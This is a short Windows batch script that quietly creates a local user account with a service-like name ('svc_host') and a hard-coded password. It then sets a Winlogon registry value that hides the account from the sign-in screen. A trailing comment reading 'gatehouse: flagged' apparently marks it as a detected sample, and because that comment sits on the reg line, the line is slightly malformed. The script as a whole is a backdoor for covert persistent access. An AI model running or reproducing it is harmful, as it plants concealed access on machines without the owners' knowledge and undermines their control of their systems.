@echo off
net user svc_host Ex4mple! /add >nul
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v svc_host /t REG_DWORD /d 0 /f rem gatehouse: flagged
